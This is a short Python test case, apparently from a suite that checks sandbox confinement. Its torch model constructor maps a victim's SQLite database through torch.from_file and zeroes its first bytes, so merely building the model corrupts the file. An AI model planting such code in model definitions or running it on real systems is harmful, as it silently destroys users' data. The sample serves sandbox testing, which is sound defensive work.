# what: writes to the database through a shared mapping of torch's
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        path = VICTIM["state"] + "/llmatic.sqlite"
        mapped = torch.from_file(path, shared=True, size=16, dtype=torch.uint8)
        mapped.zero_()
        raise RuntimeError("GOT its first bytes")
